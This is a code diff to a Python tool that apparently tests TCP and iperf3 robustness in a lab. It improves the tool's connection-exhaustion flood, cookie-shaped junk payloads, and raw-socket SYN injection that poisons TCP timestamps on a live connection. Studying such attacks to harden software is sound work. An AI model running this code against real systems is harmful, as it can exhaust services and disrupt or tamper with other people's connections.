@@ -112,7 +112,10 @@ def cmd_silent(a):
             s.connect_ex((rfc5737(a.dst), a.port))
             pending[s.fileno()] = (s, time.monotonic())
             todo -= 1
-        _, w, _ = select.select([], [p[0] for p in pending.values()], [], 0.2)
+        poller = select.poll()  # select() stops at fd 1024
+        for fd in pending:
+            poller.register(fd, select.POLLOUT)
+        w = [pending[fd][0] for fd, _ in poller.poll(200)]
         now = time.monotonic()
         for s in w:
             del pending[s.fileno()]
@@ -154,7 +157,10 @@ def cmd_cookies(a):
         try:
             s.bind((rfc5737(a.src), 0))
             s.connect((rfc5737(a.dst), a.port))
-            s.sendall(bytes(rnd.randrange(33, 127) for _ in range(a.len)))
+            if ok % 2 == 0:  # cookie-shaped: 36 of iperf3's cookie characters and a NUL, but no test follows
+                s.sendall(bytes(rnd.choice(b"abcdefghijklmnopqrstuvwxyz234567") for _ in range(a.len - 1)) + b"\0")
+            else:  # plain junk
+                s.sendall(bytes(rnd.randrange(33, 127) for _ in range(a.len)))
             ok += 1
         except OSError:
             failed += 1
@@ -245,7 +251,7 @@ def cmd_frags(a):
 
 
 # ---- f: TS.Recent poisoning: a SYN at RCV.NXT with TSval + 2^30 on a live connection ----------------------
-ETH_P_IP = 0x0800
+ETH_P_ALL = 0x0003  # outgoing frames reach only ETH_P_ALL packet sockets
 
 
 def parse_ts(opts):
@@ -271,11 +277,11 @@ def cmd_tspoison(a):
     quiet; the last segments seen on --iface (AF_PACKET) give SND.NXT and the TSvals; a SYN at that sequence
     with TSval + 2^30 is injected with a raw socket; then the victim sends --after bytes more, and we report
     whether they were all acknowledged (SIOCOUTQ drains to 0) and whether a RST came from the server."""
-    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     sniff.bind((a.iface, 0))
     sniff.setblocking(False)
     v = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    v.settimeout(5)
+    v.settimeout(2)
     v.connect((rfc5737(a.dst), a.port))
     sport = v.getsockname()[1]
     hdr = bytes.fromhex(a.header_hex)
@@ -293,6 +299,8 @@ def cmd_tspoison(a):
                     f = sniff.recv(65535)
                 except BlockingIOError:
                     break
+                if f[12:14] != b"\x08\x00":
+                    continue
                 ip = f[14:]
                 if len(ip) < 40 or ip[9] != 6:
                     continue
@@ -302,17 +310,15 @@ def cmd_tspoison(a):
                 sp, dp, seq, ack = struct.unpack("!HHII", t_[:12])
                 off = (t_[12] >> 4) * 4
                 fl = t_[13]
-                plen = struct.unpack("!H", ip[2:4])[0] - ihl - off
                 ts = parse_ts(t_[20:off])
                 if src == a.dst and dp == sport:
                     if fl & RST:
                         state["rst"] += 1
                     if ts:
                         state["tsecr"] = ts[0]
+                    if fl & ACK:
+                        state["snd_nxt"] = ack  # the server's RCV.NXT (all our data is acknowledged when we read it)
                 elif dst == a.dst and sp == sport:
-                    end_seq = (seq + plen + (1 if fl & (SYN | FIN) else 0)) & 0xFFFFFFFF
-                    state["snd_nxt"] = end_seq
-                    state["ack"] = ack
                     if ts:
                         state["tsval"] = ts[0]
 
